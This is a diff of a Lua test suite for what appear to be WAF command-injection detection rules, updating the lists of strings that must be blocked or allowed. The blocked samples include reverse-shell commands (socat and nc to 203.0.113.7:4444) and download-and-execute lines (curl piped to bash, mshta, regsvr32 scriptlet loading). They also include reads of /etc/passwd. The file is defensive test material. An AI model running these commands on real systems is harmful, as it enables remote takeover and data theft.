@@ -12,12 +12,14 @@ describe_rules("edge.waf.rules command injection shapes", function()
     end)
 
     it("132100 / 132105: more commands after a separator; tool names need a flag, path or URL", function()
-        caught_by(132100, { "b|grep -r password /home", "; openssl s_client -connect h:443", "; mshta http://h/x.hta",
-            "& vssadmin list shadows", "; lwp-download http://h/x /tmp/x", "| sqlite3 /dev/null", "; systemctl stop fw" })
-        caught_by(132105, { "a;find / -perm -4000", "| strings /bin/ls", "; docker run -v /:/mnt alpine",
-            "; git clone https://h/r.git", "; ssh -o StrictHostKeyChecking=no u@h" })
+        caught_by(132100, { "; mshta http://h/x.hta", "& vssadmin list shadows", "; lwp-download http://h/x /tmp/x",
+            "|regsvr32 /s /i:http://h/x.sct scrobj.dll", "; gunzip -c x.gz", "x;ls>/tmp/o", "<(curl -s http://h/x)" })
+        caught_by(132105, { "a;find / -perm -4000", "| strings /bin/ls", "; docker -H tcp://h:2375 ps",
+            "; git -c core.pager=sh log", "; ssh -o StrictHostKeyChecking=no u@h", "| sqlite3 /dev/null",
+            "; rsync -a /var/www h::x", "; cat</etc/hosts" })
         clean({ "I <3 bash, vim & tmux", "Python | Go | MySQL | Docker", "search & find", "sort & filter",
-            "npm install && npm test should pass", "vim | tmux | git" })
+            "npm install && npm test should pass", "vim | tmux | git", "`grep ERROR api.log | tail -n 50` shows nothing",
+            "```\nkubectl get pods -n payments\n```", "I love my dog & cat <3" })
     end)
 
     it("132110: substring expansion and variables glued inside a word", function()
@@ -34,7 +36,7 @@ describe_rules("edge.waf.rules command injection shapes", function()
     end)
 
     it("132180: a command line as the whole value, or a command named by its bin path", function()
-        caught_by(132180, { "uname -a", "crontab -l", "kill -9 -1", "head -c 100 /dev/urandom", "cat /etc/passwd",
+        caught_by(132180, { "uname -a", "crontab -l", "kill -9 -1", "tac /etc/hosts", "cat /etc/passwd",
             "socat tcp-connect:203.0.113.7:4444 exec:sh,pty", "ls -la /var/www", "nc 203.0.113.7 4444 -e /bin/sh",
             "curl -s https://h.example/i | bash", "wget http://h.example/x -O /tmp/x", "dir c:\\users",
             "x; /usr/bin/id -u", "system('/bin/cat /etc/hosts')", "/usr/local/bin/php" })
@@ -42,7 +44,7 @@ describe_rules("edge.waf.rules command injection shapes", function()
             "docker compose up -d brings up postgres", "ls output attached", "cat food, dog food & bird seed",
             "type 2 diabetes", "Type A/B testing", "set 2 of 3", "ID 12345", "echo park, los angeles",
             "the /usr/bin/python path", "#!/usr/bin/env python3", "installed to /usr/bin/node",
-            "id: 42; name: Ann", "curl the health endpoint to check: https://api.example.com/healthz" })
+            "id: 42; name: Ann", "ping <mailto:a@example.org|a@example.org> for access", "curl the health endpoint to check: https://api.example.com/healthz" })
     end)
 
     it("132190: PowerShell cmdlets, IEX on a download, .NET calls, glued call operator", function()
